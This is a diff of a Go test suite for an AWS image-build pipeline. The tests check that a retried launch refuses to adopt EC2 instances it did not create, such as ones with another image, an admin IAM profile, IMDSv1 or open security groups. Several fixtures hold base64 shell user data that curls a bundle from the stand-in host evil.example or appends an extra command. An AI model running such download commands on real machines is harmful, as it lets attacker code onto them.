@@ -1,7 +1,9 @@
 package stage
 
 import (
+	"cmp"
 	"encoding/base64"
+	"maps"
 	"strings"
 	"testing"
 
@@ -102,14 +104,100 @@ func TestRecipesSubnetsComeFirst(t *testing.T) {
 	assert.Equal(t, "subnet-9", *e.ran[0].NetworkInterfaces[0].SubnetId)
 }
 
-func TestSecondAttemptFindsTheFirstOnesInstance(t *testing.T) {
-	running := types.Instance{
+// ofFirstAttempt is what the launch stage's first attempt made.
+func ofFirstAttempt(stage, image string) types.Instance {
+	return types.Instance{
 		InstanceId: aws.String("i-first"), InstanceType: "t3.medium", State: &types.InstanceState{Name: types.InstanceStateNamePending},
-		Tags: []types.Tag{{Key: aws.String(ami.TagExecution), Value: aws.String("run")}, {Key: aws.String(ami.TagStage), Value: aws.String("LaunchBuilder")}},
+		Tags:        []types.Tag{{Key: aws.String(ami.TagExecution), Value: aws.String("run")}, {Key: aws.String(ami.TagStage), Value: aws.String(stage)}},
+		ClientToken: aws.String(ami.LaunchToken(launchOwner(Execution{ID: "arn:run", Name: "run", StartTime: start}, stage), "t3.medium", "")),
+		ImageId:     aws.String(image), SubnetId: aws.String("subnet-default"), SecurityGroups: []types.GroupIdentifier{{GroupId: aws.String("sg-1")}},
+		IamInstanceProfile: &types.IamInstanceProfile{Arn: aws.String("arn:aws:iam::111122223333:instance-profile/profile")},
+		MetadataOptions: &types.InstanceMetadataOptionsResponse{
+			HttpEndpoint: types.InstanceMetadataEndpointStateEnabled, HttpTokens: types.HttpTokensStateRequired, HttpPutResponseHopLimit: aws.Int32(1),
+		},
 	}
+}
+
+// sentData is the user data of the tests' plan, with an address of the bundle that
+// is signed in some way.
+func sentData(signature string) string {
+	return base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\ncurl 'https://get.example/bundles/b00b.tar.gz?" + signature + "'\n"))
+}
+
+func TestAnInstanceThatThisExecutionDidNotLaunchIsNotAdopted(t *testing.T) {
+	type change struct {
+		instance func(*types.Instance)
+		data     string // base64, in place of what was sent
+		tells    string
+	}
+	changes := map[string]change{
+		"of another image": {instance: func(i *types.Instance) { i.ImageId = aws.String("ami-evil") }, tells: `its image is "ami-evil"`},
+		"with another profile": {instance: func(i *types.Instance) {
+			i.IamInstanceProfile.Arn = aws.String("arn:aws:iam::111122223333:instance-profile/admin")
+		}, tells: "instance-profile/admin"},
+		"with a profile of a like name": {instance: func(i *types.Instance) {
+			i.IamInstanceProfile.Arn = aws.String("arn:aws:iam::111122223333:instance-profile/xprofile")
+		}, tells: "instance-profile/xprofile"},
+		"without a profile":            {instance: func(i *types.Instance) { i.IamInstanceProfile = nil }, tells: `its instance profile is ""`},
+		"with no client token":         {instance: func(i *types.Instance) { i.ClientToken = nil }, tells: `its client token is ""`},
+		"with somebody's client token": {instance: func(i *types.Instance) { i.ClientToken = aws.String("theirs") }, tells: `its client token is "theirs"`},
+		"of an earlier execution of the same name": {instance: func(i *types.Instance) {
+			e := Execution{ID: "arn:run", Name: "run", StartTime: start.AddDate(0, -4, 0)}
+			i.ClientToken = aws.String(ami.LaunchToken(launchOwner(e, ami.TagValue(i.Tags, ami.TagStage)), "t3.medium", ""))
+		}, tells: "which this execution did not send"},
+		"of another type than its token": {instance: func(i *types.Instance) { i.InstanceType = "m6i.large" }, tells: `its type is "m6i.large"`},
+		"with a key pair":                {instance: func(i *types.Instance) { i.KeyName = aws.String("mine") }, tells: `its key pair is "mine"`},
+		"with a public address":          {instance: func(i *types.Instance) { i.PublicIpAddress = aws.String("203.0.113.1") }, tells: "203.0.113.1"},
+		"in another security group":      {instance: func(i *types.Instance) { i.SecurityGroups[0].GroupId = aws.String("sg-open") }, tells: "sg-open"},
+		"with IMDSv1":                    {instance: func(i *types.Instance) { i.MetadataOptions.HttpTokens = types.HttpTokensStateOptional }, tells: `its metadata service is "optional"`},
+		"with a hop more":                {instance: func(i *types.Instance) { i.MetadataOptions.HttpPutResponseHopLimit = aws.Int32(2) }, tells: `its metadata hop limit is "2"`},
+	}
+	for role, its := range map[string]struct {
+		in      LaunchInput
+		stage   string
+		data    string
+		changes map[string]change
+	}{
+		"builder": {in: LaunchInput{Role: "builder"}, stage: "LaunchBuilder", data: sentData("sig=x"), changes: map[string]change{
+			"with other user data":          {data: base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\ncurl evil\n")), tells: "its user data is not what"},
+			"with a bundle of elsewhere":    {data: base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\ncurl 'https://evil.example/bundles/b00b.tar.gz?sig=x'\n")), tells: "its user data is not what"},
+			"with more after the user data": {data: base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\ncurl 'https://get.example/bundles/b00b.tar.gz?sig=x'\nevil\n")), tells: "its user data is not what"},
+		}},
+		"verifier": {in: LaunchInput{Role: "verifier", ImageID: "ami-new"}, stage: "LaunchVerifier", changes: map[string]change{
+			"with user data": {data: base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\n")), tells: "its user data is not what"},
+		}},
+	} {
+		maps.Copy(its.changes, changes)
+		for name, c := range its.changes {
+			t.Run(role+" "+name, func(t *testing.T) {
+				l, s, e := launchStage()
+				e.images = []types.Image{image("ami-new", "run", false)}
+				i := ofFirstAttempt(its.stage, map[string]string{"builder": "ami-base", "verifier": "ami-new"}[role])
+				if c.instance != nil {
+					c.instance(&i)
+				}
+				e.instances, e.userData = []types.Instance{i}, map[string]string{}
+				if data := cmp.Or(c.data, its.data); data != "" {
+					e.userData["i-first"] = data
+				}
+				in := its.in
+				in.Job = job(t, s, its.stage, testPlan())
+				_, err := l.Run(t.Context(), in)
+				requireCode(t, failure.InstanceMismatch, err)
+				assert.Contains(t, err.Error(), "instance i-first")
+				assert.Contains(t, err.Error(), c.tells)
+				assert.Empty(t, e.ran)
+				assert.Empty(t, e.terminated)
+			})
+		}
+	}
+}
+
+func TestSecondAttemptFindsTheFirstOnesInstance(t *testing.T) {
+	running := ofFirstAttempt("LaunchBuilder", "ami-base")
 	t.Run("by its tags", func(t *testing.T) {
 		l, s, e := launchStage()
-		e.instances = []types.Instance{running}
+		e.instances, e.userData = []types.Instance{running}, map[string]string{"i-first": sentData("sig=of-the-first-attempt")}
 		out, err := l.Run(t.Context(), LaunchInput{Job: job(t, s, "LaunchBuilder", testPlan()), Role: "builder"})
 		require.NoError(t, err)
 		assert.Equal(t, "i-first", out.InstanceID)
@@ -119,8 +207,7 @@ func TestSecondAttemptFindsTheFirstOnesInstance(t *testing.T) {
 		l, s, e := launchStage()
 		hidden := running
 		hidden.Tags = nil
-		hidden.ClientToken = aws.String(ami.ClientToken("arn:run", "run", "LaunchBuilder", "t3.medium", ""))
-		e.instances = []types.Instance{hidden}
+		e.instances, e.userData = []types.Instance{hidden}, map[string]string{"i-first": sentData("sig=of-the-first-attempt")}
 		e.faults["RunInstances"] = []error{awsErr("IdempotentParameterMismatch")}
 		out, err := l.Run(t.Context(), LaunchInput{Job: job(t, s, "LaunchBuilder", testPlan()), Role: "builder"})
 		require.NoError(t, err)
